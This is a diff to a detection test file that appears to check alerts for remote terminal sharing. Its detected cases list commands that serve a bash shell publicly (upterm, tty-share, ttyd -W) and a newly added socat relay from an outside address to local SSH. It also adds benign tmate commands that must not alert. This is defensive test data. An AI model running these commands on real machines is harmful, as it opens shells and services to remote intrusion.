@@ -83,6 +83,7 @@ def test_fetched_data_not_run(command):
     ("upterm host --server ssh://uptermd.upterm.dev:22 -- bash", "terminal_shared_remotely"),
     ("tty-share --public", "terminal_shared_remotely"),
     ("ttyd -p 7681 -W bash", "web_terminal_served"),
+    ("socat TCP-CONNECT:203.0.113.5:443 TCP-CONNECT:127.0.0.1:22", "socat_relay_to_local_service"),
 ])
 def test_detected(command, rule):
     assert rule in alerts(command)
@@ -107,6 +108,7 @@ def test_detected(command, rule):
     "tmate -V",
     "upterm version",
     "ttyd --help",
+    "tmate show-messages",
 ])
 def test_not_alerted(command):
     assert alerts(command) == set()
